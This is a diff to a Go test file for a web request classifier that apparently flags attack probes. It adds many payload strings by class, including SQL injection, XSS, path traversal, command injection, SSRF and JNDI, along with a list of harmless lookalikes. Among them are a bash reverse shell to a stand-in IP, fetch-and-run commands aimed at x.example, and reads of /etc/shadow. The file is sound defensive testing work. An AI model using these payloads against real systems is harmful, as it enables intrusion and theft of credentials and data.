@@ -21,37 +21,51 @@ var attacks = []struct {
 		"1+and+extractvalue(1,concat(0x7e,version()))", "1+order+by+10--+", "load_file('/x')", "x+into+outfile+'/var/www/s.php'",
 		"(select+table_name+from+information_schema.tables)", "1)+and+(select+count(*)+from+users)>0", "1%2527%2520or%25201%253d1--%2520-",
 		"7/*+a+word+*/", "7/**/and", "'+or+abc!", "1')+in+boolean+mode);iif(2=3,1,1/0)",
+		"1%a0union%a0select%a01", "or+1=1", "and+1=2", "1'or'1", "'+or+''+'", "x'and'x", "'||'a'", "concat(0x3a,user())", "1+and+gtid_subset(user(),1)", "1+or+polygon((select+*+from+(select+version())a))", "0+||+upper(database+())", "@@global.tmpdir", "(@@basedir)",
 	}},
 	{ingest.ClassXSS, []string{
 		"<script>alert(1)</script>", "%3Cscript%20src=//x.example/a.js%3E", `"><img+src=x+onerror=alert(1)>`, "<svg/onload=alert(1)>", "javascript:alert(document.domain)",
 		`"+onmouseover="alert(1)`, "<iframe+src=javascript:alert(1)>", "%253Cscript%253Ealert(1)", "&lt;script&gt;alert(1)", "%u003cscript%u003ealert(1)", `'-alert(1)-'`,
 		"<body+onload=prompt(1)>", "java%0ascript:alert(1)", "eval(atob('YQ=='))", `\u003cscript\u003ealert(1)`, "<a+href='data:text/html,<script>x</script>'>", `'';!--"<XSS>=%26{()}`,
+		"<plaintext>", "<esi:include+src=//x.example/>", "<!--esi+x-->", "x=confirm,x(1)", "onerror=prompt;throw+2", "$.getScript('//x.example')", "Reflect.construct(Image,[])", "$.globalEval(name)",
 	}},
 	{ingest.ClassLFI, []string{
 		"../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%252e%252e%252f%252e%252e%252fetc/passwd", "..%c0%af..%c0%afetc/passwd", `..\..\windows\win.ini`, "....//....//etc/passwd",
 		"/etc/shadow", "/proc/self/environ", "C:\\Windows\\System32\\drivers\\etc\\hosts", "file:///etc/passwd", "../../../../boot.ini%00", "..;/..;/manager", "/var/log/apache2/access.log",
 		"%uff0e%uff0e/%uff0e%uff0e/etc/passwd", "WEB-INF/web.xml", "../../../wp-config.php", ".git/config",
+		"/etc//shadow", "..%u2215..%u2215etc/hosts", "..%u2216..%u2216boot.ini", "/etc/kubernetes/admin.conf", "/var/mail/root", "/boot/grub/grub.cfg", "conf/tomcat-users.xml", `C:\Users\Administrator\ntuser.ini`,
 	}},
 	{ingest.ClassRCE, []string{
 		";cat+/etc/passwd", "|id", "x;id", "$(whoami)", "`id`", "127.0.0.1;+wget+http://x.example/a.sh", "a%0awhoami", "||+ping+-c+1+x.example", "%26%26+curl+x.example", "c'a't+/etc/pas\"swd\"",
 		"cat${IFS}/etc/passwd", "/bin/ca?+/etc/pass*", "bash+-i+>%26+/dev/tcp/192.0.2.1/4444+0>%261", "cmd.exe+/c+dir", "powershell+-enc+SQBFAFgA", "<!--%23exec+cmd=\"ls\"-->", "{cat,/etc/passwd}",
 		"require('child_process').exec('id')", "__import__('os').system('id')",
 		"x|%2Bdir%2Bc:/", "time+whoami", "ls+-la+backup+old",
+		"w'h'o'a'm'i", "%22c%22%22u%22%22r%22%22l%22+x", "p%5Ey%5Et%5Eh%5Eo%5En3+-V", // quotes between letters
+		";history", "%26+dir", "%0Aset", "|date|", // nothing but a command
+		";dig+a.b.example", "|ssh+root@192.0.2.1", "%26host+x.example", ";openssl+s_client+-connect+x.example:443", ";ip+addr", ";export+A=1", "%26+net+user", ";systemctl+stop+auditd", ";mysql+-u+root",
+		"1;.shell+id", "';.import+/etc/hosts+t", "x;+.system+ls", // SQLite
+		"=cmd|'/C+calc'!A0", "@SUM(1)*cmd|'/c+calc'!A0", "=HYPERLINK(%22http://x.example/%22)", "=IMPORTXML(A1,A2)",
+		"bitsadmin+/transfer+a+http://x.example/", "mshta+http://x.example/a.hta", "net+user+eve+pw+/add", "[System.Net.WebClient]::new()",
+		"while(1){}", "Kernel.exec('id')", "IO.popen('id')", "kernel.spawn(x)",
+		"ipconfig+/all", "netstat+-an", "reg+query+HKLM", `{"constructor":{"prototype":{"a":1}}}`, "for(;;)x()",
 	}},
 	{ingest.ClassPHP, []string{
 		"php://input", "php://filter/convert.base64-encode/resource=index", "<?php+system('id');?>", "phpinfo()", "data://text/plain;base64,PD9waHA=", "expect://id", "phar://x.phar",
-		"eval(base64_decode('x'))", "$_GET[x]", "-d+allow_url_include=1", "O:8:\"Evil_Obj\":1:{s:1:\"a\";i:1;}", "system('id')",
+		"eval(base64_decode('x'))", "$_GET[x]", "-d+allow_url_include=1", "'.system('id').'", "%22.phpinfo().%22", "'.+date(1)+.'", "(new+ReflectionFunction('x'))", "__halt_compiler();", "O:8:\"Evil_Obj\":1:{s:1:\"a\";i:1;}", "system('id')",
 	}},
-	{ingest.ClassSSTI, []string{"{{7*7}}", "${7*7}", "<%25=+7*7+%25>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__}}", "{%25+if+1+%25}", "%7B%7B7*'7'%7D%7D", "@(7*7)"}},
+	{ingest.ClassSSTI, []string{"{{7*7}}", "${7*7}", "<%25=+7*7+%25>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__}}", "{%25+if+1+%25}", "%7B%7B7*'7'%7D%7D", "@(7*7)", "{7*7}", "%25{6*6}", "~{3*3}", "${8*'8'}", "${.version}", "%25{%23application}", "<%23list+a+as+b>", "<%23include+x>", "${pageContext.request}", "${param.x}", "${applicationScope}", "{Smarty_Internal_Write_File::writeFile(1,2,3)}", "{{settings.KEY}}", "{{@root}}"}},
 	{ingest.ClassJNDI, []string{"${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x.example/a}", "%24%7Bjndi:dns://x.example%7D", "${${::-j}${::-n}di:rmi://x.example}", "$%7B${env:X:-j}ndi:ldap:x%7D"}},
-	{ingest.ClassSSRF, []string{"http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_x", "http://127.0.0.1:22/", "http://2130706433/", "http://0x7f000001/", "http://[::1]/", "http://metadata.google.internal/", "dict://127.0.0.1:11211/", "http://x.oastify.com/"}},
-	{ingest.ClassRFI, []string{"http://192.0.2.9/shell.txt", "http://x.example/c99.txt?", "ftp://x.example/a"}},
-	{ingest.ClassJava, []string{"%25{(%23_memberAccess=@ognl.OgnlContext@DEFAULT)}", "class.module.classLoader.resources", "java.lang.Runtime.getRuntime().exec('id')", "rO0ABXNyABFqYXZhLnV0aWwu"}},
-	{ingest.ClassNoSQL, []string{`{"$gt":""}`, "[$ne]", `{"$where":"sleep(1)"}`, "';return+this.password=='x"}},
+	{ingest.ClassSSRF, []string{"http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_x", "http://127.0.0.1:22/", "http://2130706433/", "http://0x7f000001/", "http://[::1]/", "http://metadata.google.internal/", "dict://127.0.0.1:11211/", "http://x.oastify.com/",
+		"0251.0376.0251.0376", "0xA9.0xFE.0xA9.0xFE", "0xa9fea9fe", "025177524776", "169.0xfe.0251.254", "169.254.43518", "http://169.16689662/", "[::ffff:a9fe:a9fe]", "http://[fd00:ec2::254]/", "http://100.100.100.200/", "http://169.254.169.253/", "http://425.510.425.510/", "http://metadata.oraclecloud.com/", "https://kubernetes.default.svc/",
+		"http://user@127.0.0.1/", "http://x.example@localhost/", "http://localtest.me", "/%5Cx.example", `\/\/x.example/a`, "/%5C%5Cx.example"}},
+	{ingest.ClassRFI, []string{"http://192.0.2.9/shell.txt", "http://x.example/c99.txt?", "ftp://x.example/a", "https://x.example/r.txt?cmd=id"}},
+	{ingest.ClassJava, []string{"%25{(%23_memberAccess=@ognl.OgnlContext@DEFAULT)}", "class.module.classLoader.resources", "java.lang.Runtime.getRuntime().exec('id')", "rO0ABXNyABFqYXZhLnV0aWwu", "AAEAAAD/////AQAAAAAAAAAMAgAA", "gASVIAAAAAAAAACMBXBvc2l4", "BAhvOgpFdmls", "javax.script.ScriptEngineManager", "java.lang.Runtime"}},
+	{ingest.ClassNoSQL, []string{`{"$gt":""}`, "[$ne]", `{"$where":"sleep(1)"}`, "';return+this.password=='x", "'+||+'1'=='1", "';+return+true;+var+a='", "this.secret.match(/^a/)",
+		"']+|+//user/*[contains(*,'", "count(//*)", "doc('http://x.example/')", "'+or+//user[1]", "/a/child::node()[1]"}},
 	{ingest.ClassXXE, []string{`<!DOCTYPE+x+[<!ENTITY+a+SYSTEM+"file:///x">]>`, "<!ENTITY+%25+a+SYSTEM+'http://x.example/'>"}},
-	{ingest.ClassCRLF, []string{"x%0d%0aSet-Cookie:a=b", "%0aLocation:+http://x.example/", "%E5%98%8A%E5%98%8DSet-Cookie:a=b", "x%0d%0a%0d%0aGET+/+HTTP/1.1"}},
+	{ingest.ClassCRLF, []string{"x%0d%0aSet-Cookie:a=b", "%0aLocation:+http://x.example/", "%E5%98%8A%E5%98%8DSet-Cookie:a=b", "x%0d%0a%0d%0aGET+/+HTTP/1.1", `\r\nSet-Cookie:a=b`, "x%0d%0aUSER+root%0d%0aPASS+x", "x%0ARCPT+TO:<a@x.example>", "x%0aBcc:a@x.example", "x%0d%0aQUIT"}},
 	{ingest.ClassLDAP, []string{"*)(uid=*", "admin)(|(password=*", "(objectClass=*)(x=", "x)(%26(a=b"}},
-	{ingest.ClassScanner, []string{"acunetix_wvs_security_test", "netsparker(0x0)", "http://cirt.net/rfiinc.txt"}},
+	{ingest.ClassScanner, []string{"acunetix_wvs_security_test", "netsparker(0x0)", "http://cirt.net/rfiinc.txt", "{__schema{types{name}}}", "query{__type(name:%22User%22){name}}", "query+IntrospectionQuery+{a}"}},
 	{ingest.ClassProtocol, []string{"x%00", "a%01b", "%uff1cb%uff1e"}},
 }
 
@@ -81,6 +95,21 @@ var harmless = []string{
 	"ignore+the+noise", "you+are+beautiful", "operating+system+prompt+payment", "instructions+for+use", "node+js", "python+3.12", "version=1.2.3", "v1.2..v1.3", "wait...+what", "etc", "etc.+and+so+on", "../", "index.php", "my-document.pdf", "report.sql+server",
 	"50%25+off", "100%25", "a%0D%0Ab+and+more+text+in+a+box", "line+one%0Aline+two", "$5.00", "$100+-+$200", "a$b", "~user", "#tag", "50%", "&nbsp;", "&amp;", "AT%26T", "<3", "->", "a>b", "Q%26A",
 	"price:[10+TO+20]", "-title:draft", "(cat+OR+dog)", "created>2024-01-01", "1,2,3", "1|2|3", "a;b;c", "2024-01-01T00:00:00Z", "12:30:45", "-33.8,151.2", "0x1F4A9", "1e5", "N/A", "/path/to/page", "/etsy/shop", "on=1", "browning+%22like%22", "36%22%2Bx%2B48%22+frame", "%22*%22", "ls+command+linux", "ls+swap", "time+zone", "a+/*+b", "on=1", "online=true", "position=center", "style=modern",
+	// questions
+	"what+is+/etc/hosts", "what+does+union+all+select+do+in+sql", "why+is+document.cookie+empty", "rm+-rf+explained", "ls+-la+meaning", "nginx.conf+example", ".htaccess+redirect", "curl+command+examples", "document.getElementById+not+working", "java.util.List", "java.lang.NullPointerException", "org.springframework.boot",
+	// words of commands
+	"php;html;css", "linux;systemctl;bash", "sports;history", "R%26B+|+soul", "A%26E", "home+|+date+ideas", "set+the+table;+mail+order", "net+user+growth+%26+retention", "tail+lights+%26+head+lights", "ip+address;+subnet", "ver.+2+%26+ver.+3", "a%26amp;set", "host+%26+guests", "d'o'h", "a''b''c", `%5Cd%5Cs%5Cw%5Cb`, "'a','b','c','d'",
+	".net;.NET+core", "version+2.;.5", "=SUM(A1:A9)", "@cmdline", "hyperlink(text)", "while+true+loop", "for+(i=0;i<9;i%2B%2B)", "constructor+of+a+class",
+	"kernel+panic", "io.open", "black+or+white", "or+best+offer", "'tis+or+'twas", "this'or'that+and+more+words", "say+'yes'.", "'a'.b", "reg+fee", "ssh+keys", "netstat+manual", "grub", "reflection+function+php", "https://example.org/robots.txt", "concat+strings",
+	// expressions
+	"{3,4}", "{campaignid}", "{{campaign.name}}", "${CLICK_ID}", "%25{name}", "<%23>", "{page}*{size}", "request+scope", "%25%25CACHE%25%25", "version()+mysql", "user()", "@version", "user@@home",
+	// addresses and files
+	"192.168.0.1+router", "169.254.1.1", "0x1a9f", "169.00+USD", "metadata.json", "kubernetes+default+namespace", "http://192.168.0.5/photo.html", "https://user@example.org/", "https:%5C/%5C/example.org%5C/a", "//cdn.example.org/a.js", "C:%5CUsers%5Cme%5CDocuments%5Creport.docx", "etc//and", "tomcat+users",
+	// tokens and queries
+	"rO0abc", "aaeaaad", "gASoline", "BAhrain", "H4sIAAAAAAAAA6tWSs7PK0nNKwFSSlYK",
+	"{+products(first:+10)+{+edges+{+node+{+id+}+}+}+}", "query+Q($id:+ID!)+{+node(id:+$id)+{+id+__typename+}+}", "mutation+{+like(id:+5)+{+id+}+}", "a+||+b", "return+true+love", "this.is.it", "or+//+comment", "name(s)+of+people", "std::vector",
+	// letters to somebody
+	"Dear+Sir,%0A%0Athank+you%0Alist+of+things", "Hello%0A%0ATo+whom+it+may+concern", "a%0Apass+the+salt+please%0Afrom+me", "C:%5Cnew%5Crelease", "%5Cn%5Cr+are+escapes",
 }
 
 func TestHarmless(t *testing.T) {
@@ -99,6 +128,7 @@ func TestHarmlessPaths(t *testing.T) {
 		"/", "/index.html", "/blog/how-to-union-select", "/wiki/Foo_(bar)", "/wiki/C%2B%2B", "/wiki/O'Brien", "/wiki/Rock_%27n%27_Roll", "/a/b;jsessionid=0A1B2C3D", "/cars;color=red;year=2012/models", "/javascript-manual/document.cookie.html",
 		"/fonts/css?family=Open+Sans:400,700|Roboto", "/img/logo%20small.png", "/~user/index.html", "/@scope/package", "/.well-known/acme-challenge/x", "/jquery.history.min.js", "/blog/2024/01/select-from-where/", "/foo../1234", "/products/cat/dog", "/a/../b.html",
 		"/search?utm_source=x&utm_medium=y&gclid=Cj0KCQiA1--x_wcB", "/?s=", "/?", "/a?b", "/a?b=c=d", "/a?items[]=1&items[]=2&filter[name]=x", "/a?%5B%5D=1", "/feed/?format=rss", "/downloads/app-1.2.3.tar.gz", "/photos/image.jpeg?w=100&h=200",
+		"/team/site/blob/main/etc/nginx/nginx.conf", "/team/site/raw/v2/var/log/rotate.conf", "/team/site/tree/main/etc/ssl/private", "/api/users/?name__icontains=smith&created__gte=2024-01-01", "/admin/auth/user/?is_staff__exact=1&date__year=2024", "/api/tags/?name__startswith=a",
 	} {
 		if r := Inspect([]byte(target)); Hostile(&r) {
 			t.Errorf("%q: class %q, stage %d, want no probe", target, r.Class, r.Stage)
